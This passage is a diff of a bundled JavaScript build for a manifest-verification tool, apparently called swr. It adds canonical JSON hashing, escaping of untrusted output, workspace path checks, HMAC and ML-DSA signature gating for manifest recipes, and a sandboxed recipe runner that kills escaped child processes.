@@ -12993,11 +12993,89 @@ exports.suggestSimilar = suggestSimilar;
 /************************************************************************/
 var __webpack_exports__ = {};
 
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./node_modules/canonicalize/lib/canonicalize.js
+function hasLoneSurrogate (value) {
+  for (let i = 0; i < value.length; i++) {
+    const code = value.charCodeAt(i);
+
+    if (code >= 0xD800 && code <= 0xDBFF) {
+      if (i === value.length - 1) {
+        return true;
+      }
+      const next = value.charCodeAt(i + 1);
+      if (!(next >= 0xDC00 && next <= 0xDFFF)) {
+        return true;
+      }
+      i++;
+    } else if (code >= 0xDC00 && code <= 0xDFFF) {
+      return true;
+    }
+  }
+
+  return false;
+}
+
+function canonicalize (object, seen = new Set()) {
+  if (typeof object === 'number' && isNaN(object)) {
+    throw new Error('NaN is not allowed');
+  }
+
+  if (typeof object === 'number' && !isFinite(object)) {
+    throw new Error('Infinity is not allowed');
+  }
+
+  if (typeof object === 'string' && hasLoneSurrogate(object)) {
+    throw new Error('Lone surrogate is not allowed');
+  }
+
+  if (object === null || typeof object !== 'object') {
+    return JSON.stringify(object);
+  }
+
+  if (typeof object.toJSON === 'function') {
+    if (seen.has(object)) {
+      throw new Error('Circular reference detected');
+    }
+    seen.add(object);
+    const result = canonicalize(object.toJSON(), seen);
+    seen.delete(object);
+    return result;
+  }
+
+  if (seen.has(object)) {
+    throw new Error('Circular reference detected');
+  }
+  seen.add(object);
+
+  let result;
+  if (Array.isArray(object)) {
+    const values = object.map((cv) => {
+      const value = cv === undefined || typeof cv === 'symbol' ? null : cv;
+      return canonicalize(value, seen);
+    });
+    result = `[${values.join(',')}]`;
+  } else {
+    const parts = [];
+    for (const key of Object.keys(object).sort()) {
+      if (object[key] === undefined || typeof object[key] === 'symbol') {
+        continue;
+      }
+      parts.push(`${canonicalize(key)}:${canonicalize(object[key], seen)}`);
+    }
+    result = `{${parts.join(',')}}`;
+  }
+
+  seen.delete(object);
+  return result;
+}
+
 ;// CONCATENATED MODULE: ./src/core/errors.ts
 /**
  * Exit codes and the few error classes that carry them. Only the shells turn an error into an exit.
  */
-const EXIT = {
+const errors_EXIT = {
     HEALTHY: 0,
     DAMAGED: 1,
     UNREPAIRABLE: 2,
@@ -13024,7 +13102,7 @@ class SwrError extends Error {
 class ManifestError extends SwrError {
     problems;
     constructor(message, problems = [message]) {
-        super(message, EXIT.BAD_MANIFEST);
+        super(message, errors_EXIT.BAD_MANIFEST);
         this.problems = problems;
         this.name = 'ManifestError';
     }
@@ -13032,7 +13110,7 @@ class ManifestError extends SwrError {
 /** The command line asked for something that cannot be done. */
 class UsageError extends SwrError {
     constructor(message) {
-        super(message, EXIT.BAD_MANIFEST);
+        super(message, errors_EXIT.BAD_MANIFEST);
         this.name = 'UsageError';
     }
 }
@@ -13059,7 +13137,7 @@ function diskError(err, file) {
         return undefined;
     const p = err.path;
     const what = file ?? (typeof p === 'string' ? p : 'to the disk');
-    return new SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, EXIT.WRITE_FAILED);
+    return new SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, errors_EXIT.WRITE_FAILED);
 }
 /** Node's fs errors carry a code; this reads it without `any`. */
 function errnoCode(err) {
@@ -13070,32 +13148,989 @@ function errnoCode(err) {
     return undefined;
 }
 
-// EXTERNAL MODULE: ./node_modules/commander/index.js
-var commander = __nccwpck_require__(8909);
-;// CONCATENATED MODULE: ./node_modules/commander/esm.mjs
+;// CONCATENATED MODULE: ./src/core/manifest/canonical.ts
+/**
+ * The one canonical form of a manifest body (RFC 8785, JCS) and the digest derived from it. Only
+ * values from the strict parser reach here, so the text a reviewer read is the text that is hashed.
+ */
 
 
-// wrapper to provide named exports for ESM.
-const {
-  /* program */ "DM": program,
-  /* createCommand */ "gu": createCommand,
-  /* createArgument */ "er": createArgument,
-  /* createOption */ "Ww": createOption,
-  /* CommanderError */ "b7": CommanderError,
-  /* InvalidArgumentError */ "Di": InvalidArgumentError,
-  /* InvalidOptionArgumentError */ "a2": InvalidOptionArgumentError, // deprecated old name
-  /* Command */ "uB": Command,
-  /* Argument */ "ef": Argument,
-  /* Option */ "c$": Option,
-  /* Help */ "_V": Help,
-} = commander;
 
-// EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(3024);
-var external_node_fs_default = /*#__PURE__*/__nccwpck_require__.n(external_node_fs_);
+/** RFC 8785 bytes of `value`. */
+function canonicalBytes(value) {
+    const text = canonicalize(value);
+    if (text === undefined)
+        throw new InternalError('value has no canonical JSON form');
+    return Buffer.from(text, 'utf8');
+}
+/** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
+function manifestDigest(body) {
+    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
+}
+
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(6760);
 var external_node_path_default = /*#__PURE__*/__nccwpck_require__.n(external_node_path_);
+;// CONCATENATED MODULE: ./src/core/report/escape.ts
+/**
+ * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
+ * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
+ * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
+ * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
+ * reorder what the reader sees. Every printer passes such strings through `escapeText`.
+ */
+/** Bidi controls: they make text display in another order than it is stored. */
+const BIDI = new Set([
+    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
+]);
+const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
+/** The default bound for a manifest string quoted in an error line. */
+const QUOTE_MAX = 200;
+/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
+function isControl(code) {
+    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
+}
+function hex(code, width) {
+    return code.toString(16).padStart(width, '0');
+}
+function visible(code) {
+    if (NAMED[code])
+        return NAMED[code];
+    if (code <= 0xff && isControl(code))
+        return `\\x${hex(code, 2)}`;
+    if (BIDI.has(code))
+        return `\\u${hex(code, 4)}`;
+    return undefined;
+}
+/**
+ * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
+ * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
+ * surrogate pair is left alone.
+ */
+function byteMarker(s, i) {
+    const code = s.charCodeAt(i);
+    if (code < 0xdc80 || code > 0xdcff)
+        return undefined;
+    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
+    if (prev >= 0xd800 && prev <= 0xdbff)
+        return undefined;
+    return `\\x${hex(code - 0xdc00, 2)}`;
+}
+/**
+ * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
+ * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
+ * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
+ * built from escaped parts may be escaped again by the printer.
+ */
+function escapeText(s, opts = {}) {
+    const max = opts.max ?? Number.POSITIVE_INFINITY;
+    let out = '';
+    let i = 0;
+    for (; i < s.length; i++) {
+        const code = s.charCodeAt(i);
+        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
+        if (out.length + piece.length > max)
+            break;
+        out += piece;
+    }
+    if (i >= s.length)
+        return out;
+    // Never leave half a surrogate pair at the cut.
+    const last = out.charCodeAt(out.length - 1);
+    if (last >= 0xd800 && last <= 0xdbff) {
+        out = out.slice(0, -1);
+        i--;
+    }
+    return `${out}…[+${s.length - i} chars]`;
+}
+/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
+function quoted(s, max = QUOTE_MAX) {
+    return `"${escapeText(s, { max })}"`;
+}
+/**
+ * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
+ * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
+ * table cell, link, image, emphasis, code span or HTML.
+ */
+function escape_escapeMarkdown(s, opts = {}) {
+    return escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
+}
+/**
+ * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
+ * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
+ * there, written `\|`) need care.
+ */
+function escape_markdownCode(s, opts = {}) {
+    return '`' + escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
+/**
+ * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
+ * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
+ */
+
+
+const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
+const MAX_PATH = 4096;
+/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
+function pathProblem(p) {
+    if (p === '.')
+        return undefined;
+    if (p.length === 0)
+        return 'is empty';
+    if (p.length > MAX_PATH)
+        return `is longer than ${MAX_PATH} characters`;
+    if (p.includes('\0'))
+        return 'contains a NUL byte';
+    if (!p.isWellFormed() || p.normalize('NFC') !== p)
+        return 'is not NFC-normalised Unicode';
+    if (p.startsWith('/'))
+        return 'is absolute; manifest paths are relative to the workspace';
+    for (const seg of p.split('/')) {
+        if (seg === '')
+            return 'has an empty segment (double or trailing slash)';
+        if (seg === '..')
+            return 'escapes the workspace with ".."';
+        if (seg === '.')
+            return 'has a "." segment; write it without';
+    }
+    return undefined;
+}
+/**
+ * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
+ * `workspace`. Returns an error string when the path is outside the workspace.
+ */
+function toManifestPath(input, cwd, workspace) {
+    const abs = external_node_path_default().resolve(cwd, input.normalize('NFC'));
+    const rel = external_node_path_default().relative(workspace, abs);
+    if (rel === '')
+        return { ok: true, path: '.' };
+    if (rel === '..' || rel.startsWith('../') || external_node_path_default().isAbsolute(rel)) {
+        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
+    }
+    const spelled = rel.split((external_node_path_default()).sep).join('/');
+    const problem = pathProblem(spelled) ?? controlProblem(spelled);
+    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
+}
+/**
+ * A manifest path is printed on lines of output, so the loader refuses one holding a control or
+ * bidi character; a path typed to `add` is refused the same way before anything is written.
+ */
+function controlProblem(p) {
+    for (let i = 0; i < p.length; i++) {
+        const c = p.charCodeAt(i);
+        if (isControl(c))
+            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
+    }
+    return undefined;
+}
+/** True when `abs` is `root` or below it (both already absolute and normalised). */
+function isInside(root, abs) {
+    if (abs === root)
+        return true;
+    const base = root.endsWith('/') ? root : `${root}/`;
+    return abs.startsWith(base);
+}
+/** Absolute location of a validated manifest path. */
+function resolveEntryPath(workspace, rel) {
+    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
+}
+/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
+function innerPathProblem(p) {
+    if (p === '.')
+        return 'names the tree itself';
+    return pathProblem(p);
+}
+
+;// CONCATENATED MODULE: ./src/core/cache-port.ts
+/**
+ * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
+ * real cache service when it is reachable. The port only finds and streams an archive; it never
+ * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
+ * the signed manifest while extracting, and only then places it (see restore/cache/), so a
+ * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
+ */
+
+
+
+/**
+ * The key under which an entry's verified state is saved: its id plus the digest of its signed
+ * expectations. Another state of the entry (or another manifest's entry) has another key.
+ */
+function stateKey(e) {
+    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
+    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
+}
+/** Which entries have a cache saved for exactly their expected state (no download). */
+async function lookupSavedStates(m, entries, cache) {
+    const out = [];
+    for (const e of entries) {
+        const key = stateKey(e);
+        out.push({
+            id: e.id,
+            key,
+            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
+        });
+    }
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
+/**
+ * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
+ * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
+ * type, and with it the manifest format and the signature-format version:
+ *   "DSSEv1" SP len(type) SP type SP len(body) SP body
+ */
+
+const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
+/** DSSE pre-authentication encoding of `payload` under `type`. */
+function pae(type, payload) {
+    const t = Buffer.from(type, 'utf8');
+    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
+    return Buffer.concat([head, payload]);
+}
+/** The exact bytes every manifest signature covers. */
+function envelope_signingInput(body, type = PAYLOAD_TYPE) {
+    return pae(type, canonicalBytes(body));
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
+/**
+ * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
+ * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
+ * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
+ * never from the workspace. Comparison is constant-time.
+ */
+
+/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
+function hmacKeyId(key) {
+    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
+}
+function signHmac(key, input) {
+    return {
+        alg: 'hmac-sha256',
+        keyid: hmacKeyId(key),
+        sig: (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest('hex')
+    };
+}
+function verifyHmac(key, input, sig) {
+    if (!/^[0-9a-f]{64}$/.test(sig.sig))
+        return false;
+    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
+    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
+}
+/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
+function parseHmacKey(text) {
+    const t = text.trim();
+    if (/^[0-9a-fA-F]{64}$/.test(t))
+        return Buffer.from(t, 'hex');
+    if (t.length >= 32)
+        return Buffer.from(t, 'utf8');
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
+/**
+ * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
+ * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
+ * manifest never pays for it. The public key travels with the signature; its fingerprint is always
+ * recomputed from the key, never read from the document.
+ */
+
+/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
+const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
+const PUBLIC_KEY_BYTES = 2592;
+const SIGNATURE_BYTES = 4627;
+let loaded;
+async function mldsa() {
+    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
+    return loaded;
+}
+/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
+function fingerprint(publicKey) {
+    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
+}
+/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
+function groupFingerprint(fp) {
+    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
+}
+function normalizeFingerprint(text) {
+    const t = text.replace(/[\s:-]/g, '').toLowerCase();
+    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
+}
+async function identityFromSeed(seed) {
+    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
+    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
+}
+async function mldsa_signMldsa(id, input) {
+    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
+    return {
+        alg: 'ml-dsa-87',
+        keyid: id.fingerprint,
+        public_key: Buffer.from(id.publicKey).toString('base64'),
+        sig: Buffer.from(sig).toString('base64')
+    };
+}
+/** Decoded key and signature, or undefined when either is malformed (never throws). */
+function decodeMldsa(s) {
+    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
+    if (!b64.test(s.public_key) || !b64.test(s.sig))
+        return undefined;
+    const publicKey = Buffer.from(s.public_key, 'base64');
+    const sig = Buffer.from(s.sig, 'base64');
+    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
+        return undefined;
+    return { publicKey, sig };
+}
+async function verifyMldsa(publicKey, input, sig) {
+    try {
+        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
+    }
+    catch {
+        return false;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/gate.ts
+/**
+ * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
+ * commands, exported scripts) may run. Every path that executes manifest content asks it first.
+ *
+ *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
+ *
+ * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
+ * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
+ * shells never pass anything but the default.
+ */
+
+
+
+
+
+const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
+const ALL_DEFENSES = Object.freeze({
+    signatures: true,
+    trust: true,
+    fingerprintFromKey: true,
+    payloadType: true,
+    expiry: true,
+    scope: true,
+    rollback: true
+});
+/** What the gate reads of a loaded manifest. */
+function gateInput(m) {
+    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
+}
+/** Each signature's state under `policy` (no decision). */
+async function evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
+    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
+    const out = [];
+    for (const s of m.signatures) {
+        if (s.alg === 'hmac-sha256') {
+            if (!policy.hmacKey)
+                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
+            else {
+                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
+                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
+            }
+            continue;
+        }
+        const decoded = decodeMldsa(s);
+        if (!decoded) {
+            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
+            continue;
+        }
+        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
+        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
+        const trusted = !defenses.trust || policy.trusted.has(fp);
+        out.push({
+            alg: s.alg,
+            keyid: s.keyid,
+            fingerprint: fp,
+            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
+        });
+    }
+    return out;
+}
+/** May this manifest's code run? */
+async function decide(m, policy, defenses = ALL_DEFENSES) {
+    const refuse = (reason, signatures = []) => ({
+        allowed: false,
+        reason,
+        signatures,
+        warnings: []
+    });
+    const body = m.body;
+    if (defenses.expiry &&
+        body.expires !== undefined &&
+        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
+    ) {
+        return refuse(`manifest expired at ${body.expires}`);
+    }
+    if (defenses.scope) {
+        const scopeProblem = checkScope(body, policy.run);
+        if (scopeProblem)
+            return refuse(scopeProblem);
+    }
+    if (defenses.rollback) {
+        const rollback = checkRollback(body.version, m.digest, policy);
+        if (rollback)
+            return refuse(rollback);
+    }
+    if (policy.waiveDigest !== undefined) {
+        if (policy.waiveDigest.toLowerCase() !== m.digest) {
+            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
+        }
+        return {
+            allowed: true,
+            reason: 'signature requirement waived for this exact digest',
+            signatures: await evaluateSignatures(m, policy, defenses),
+            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
+        };
+    }
+    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
+    const states = await evaluateSignatures(m, policy, defenses);
+    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
+    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
+    const threshold = policy.threshold ?? 1;
+    const mldsaOk = signers.size >= threshold;
+    const need = describeNeed(policy.require, threshold);
+    const ok = policy.require === 'any'
+        ? hmacOk || mldsaOk
+        : policy.require === 'hmac'
+            ? hmacOk
+            : policy.require === 'mldsa'
+                ? mldsaOk
+                : hmacOk && mldsaOk;
+    if (!ok)
+        return refuse(`${summarise(states, policy)}; ${need} required`, states);
+    const by = [
+        hmacOk ? 'HMAC' : '',
+        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
+    ].filter(Boolean);
+    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
+}
+function describeNeed(r, threshold) {
+    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
+    switch (r) {
+        case 'any':
+            return `a valid HMAC or ${ml}`;
+        case 'hmac':
+            return 'a valid HMAC signature';
+        case 'mldsa':
+            return ml;
+        case 'both':
+            return `a valid HMAC and ${ml}`;
+    }
+}
+function summarise(states, policy) {
+    if (states.length === 0)
+        return 'manifest is unsigned';
+    const parts = states.map(s => {
+        const who = s.alg === 'hmac-sha256'
+            ? 'HMAC'
+            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
+        if (s.state === 'no-key')
+            return `${who}: no HMAC key on this run`;
+        if (s.state === 'invalid' &&
+            s.alg === 'hmac-sha256' &&
+            policy.hmacKey &&
+            s.keyid !== hmacKeyId(policy.hmacKey)) {
+            return `${who}: made with another key`;
+        }
+        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
+    });
+    return parts.join(', ');
+}
+function checkScope(body, run) {
+    const scope = body.scope;
+    if (!scope)
+        return undefined;
+    if (scope.repository !== undefined &&
+        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
+        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
+    }
+    if (scope.ref !== undefined &&
+        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
+        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
+    }
+    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
+        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
+    }
+    return undefined;
+}
+function checkRollback(version, digest, policy) {
+    if (policy.minVersion !== undefined && version < policy.minVersion) {
+        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
+    }
+    const r = policy.remembered;
+    if (r && version < r.version) {
+        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
+    }
+    if (r && version === r.version && digest !== r.digest) {
+        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
+    }
+    return undefined;
+}
+
+// EXTERNAL MODULE: external "node:child_process"
+var external_node_child_process_ = __nccwpck_require__(1421);
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
+var external_node_fs_default = /*#__PURE__*/__nccwpck_require__.n(external_node_fs_);
+;// CONCATENATED MODULE: ./src/core/run/escaped.ts
+/**
+ * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
+ * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
+ * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
+ * A process that clears its own environment is not found either.
+ */
+
+
+const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
+function newRunToken() {
+    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
+}
+/** Processes other than this one whose environment carries `token`. */
+function findTagged(token) {
+    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
+    let pids;
+    try {
+        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
+    }
+    catch {
+        return [];
+    }
+    const out = [];
+    for (const p of pids) {
+        const pid = Number(p);
+        if (pid === process.pid)
+            continue;
+        try {
+            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
+            if (!env.includes(needle))
+                continue;
+            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
+            out.push({ pid, name });
+        }
+        catch {
+            // Gone, or not ours to read.
+        }
+    }
+    return out;
+}
+const sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
+ * was found, for the report.
+ */
+async function killTagged(token, graceMs) {
+    const found = findTagged(token);
+    if (found.length === 0)
+        return found;
+    const signal = (sig) => {
+        for (const p of found) {
+            try {
+                process.kill(p.pid, sig);
+            }
+            catch {
+                // Already gone.
+            }
+        }
+    };
+    signal('SIGTERM');
+    const deadline = Date.now() + graceMs;
+    while (Date.now() < deadline && findTagged(token).length > 0)
+        await sleep(50);
+    signal('SIGKILL');
+    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
+    return found;
+}
+
+;// CONCATENATED MODULE: external "node:string_decoder"
+const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
+;// CONCATENATED MODULE: ./src/core/run/output.ts
+/**
+ * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
+ * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
+ * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
+ */
+
+/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
+function lineSplitter(onLine, maxLine) {
+    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
+    let partial = '';
+    const take = (text) => {
+        const lines = (partial + text).split('\n');
+        partial = lines.pop() ?? '';
+        for (const l of lines)
+            onLine(l);
+        if (partial.length > maxLine) {
+            onLine(partial);
+            partial = '';
+        }
+    };
+    return {
+        push: chunk => take(decoder.write(chunk)),
+        end: () => {
+            take(decoder.end());
+            if (partial)
+                onLine(partial);
+            partial = '';
+        }
+    };
+}
+/** The last `maxBytes` bytes of output, kept as whole lines. */
+function tailKeeper(maxBytes) {
+    const lines = [];
+    const sizes = [];
+    let head = 0;
+    let bytes = 0;
+    let cut = false;
+    return {
+        add(line) {
+            let l = line + '\n';
+            let n = Buffer.byteLength(l);
+            if (n > maxBytes) {
+                // One line longer than the whole budget: keep its end.
+                l = Buffer.from(l)
+                    .subarray(n - maxBytes)
+                    .toString('utf8')
+                    .replace(/^\uFFFD+/, '');
+                n = Buffer.byteLength(l);
+                cut = true;
+            }
+            lines.push(l);
+            sizes.push(n);
+            bytes += n;
+            while (bytes > maxBytes && head < lines.length) {
+                bytes -= sizes[head] ?? 0;
+                head++;
+                cut = true;
+            }
+            if (head > 1024 && head * 2 > lines.length) {
+                lines.splice(0, head);
+                sizes.splice(0, head);
+                head = 0;
+            }
+        },
+        text: () => lines.slice(head).join(''),
+        truncated: () => cut
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/run/recipe.ts
+/**
+ * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
+ * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
+ * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
+ * A process that left the group (`setsid`) is found by the run token in its environment, stopped
+ * and reported; and once the recipe's own process has exited, swr waits at most a grace period
+ * for the output pipes such a process may hold open.
+ * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
+ */
+
+
+
+const KEEP_BYTES = 64 * 1024;
+const DEFAULT_GRACE_MS = 3000;
+const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
+/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
+function minimalEnv(from, names) {
+    const env = {};
+    for (const n of [...BASE_ENV_NAMES, ...names]) {
+        const v = from[n];
+        if (v !== undefined)
+            env[n] = v;
+    }
+    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
+    return env;
+}
+function killGroup(pid, signal) {
+    try {
+        process.kill(-pid, signal);
+    }
+    catch {
+        // Already gone.
+    }
+}
+function runRecipe(spec, hooks) {
+    const started = performance.now();
+    const [cmd, ...args] = spec.shell;
+    const token = newRunToken();
+    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
+    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
+    if (unusable !== undefined)
+        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
+    return new Promise(resolve => {
+        const child = (0,external_node_child_process_.spawn)(cmd ?? 'bash', [...args, spec.command], {
+            cwd: spec.cwd,
+            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
+            detached: true, // its own process group, so the whole group can be stopped
+            stdio: ['ignore', 'pipe', 'pipe']
+        });
+        const kept = tailKeeper(KEEP_BYTES);
+        let timedOut = false;
+        let interrupted = false;
+        let exited;
+        const emit = (line) => {
+            const clean = hooks.scrub(line);
+            hooks.onLine?.(spec.id, clean);
+            kept.add(clean);
+        };
+        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
